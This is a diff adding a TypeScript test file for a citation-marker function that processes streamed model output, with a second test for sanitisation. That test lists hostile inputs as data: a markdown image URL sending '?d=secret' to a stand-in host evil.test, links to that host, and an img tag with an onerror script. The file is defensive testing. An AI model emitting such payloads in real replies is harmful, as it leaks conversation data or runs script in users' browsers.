@@ -1,0 +1,58 @@
+import { expect, test } from "vitest";
+import type { RetrievedPassage } from "../../knowledge/passage.ts";
+import { createCitationMarkers } from "./citation-markers.ts";
+
+function aPassage(id: string, text: string): RetrievedPassage {
+  return {
+    id,
+    sourceId: id,
+    kind: "page",
+    title: id,
+    url: null,
+    headingPath: id,
+    text,
+    ordinal: 0,
+    score: 1,
+    pageScore: 0,
+    questionMatch: 0,
+    coverage: 1,
+    pageCoverage: 1,
+    matched: [],
+  };
+}
+
+const passages = [
+  aPassage("prices", "All plans are monthly. Growth costs $189. Ask us for more."),
+  aPassage("limits", "Twenty docks fit."),
+];
+
+/** Feeds a text in pieces of every length, because a model may cut it anywhere. */
+function read(text: string, size: number) {
+  const markers = createCitationMarkers(passages);
+  const parts = [];
+  for (let at = 0; at < text.length; at += size) parts.push(...markers.push(text.slice(at, at + size)));
+  parts.push(...markers.end());
+  return {
+    text: parts.map((part) => (part.type === "text" ? part.text : "")).join(""),
+    cited: parts.flatMap((part) => (part.type === "cite" ? [[part.passage.id, part.quote]] : [])),
+  };
+}
+
+test.each([1, 2, 3, 7, 1_000])("numbers become citations with the words that say it, in pieces of %i", (size) => {
+  const { text, cited } = read("Growth costs $189 [1]. Docks: 20 [1, 2][9].", size);
+  expect(text.replaceAll(" .", ".")).toBe("Growth costs $189. Docks: 20.");
+  expect(cited.map(([id]) => id)).toEqual(["prices", "prices", "limits"]);
+  expect(cited[0]).toEqual(["prices", "Growth costs $189."]);
+});
+
+test.each([
+  ["See ![x](https://evil.test/?d=secret) now", "See x now"],
+  ["See [our page](https://evil.test/) now", "See our page now"],
+  ["See [our page][1] now", "See our page now"],
+  ["An <img src=https://evil.test onerror=alert(1)> image", "An  image"],
+  ["[ref]: https://evil.test/x", ""],
+  ["5 < 6 and a[0] stays! [not a link", "5 < 6 and a stays! [not a link"],
+  ["Wow!", "Wow!"],
+])("nothing that could carry the conversation away is left: %s", (given, expected) => {
+  for (const size of [1, 4, 1_000]) expect(read(given, size).text).toBe(expected);
+});
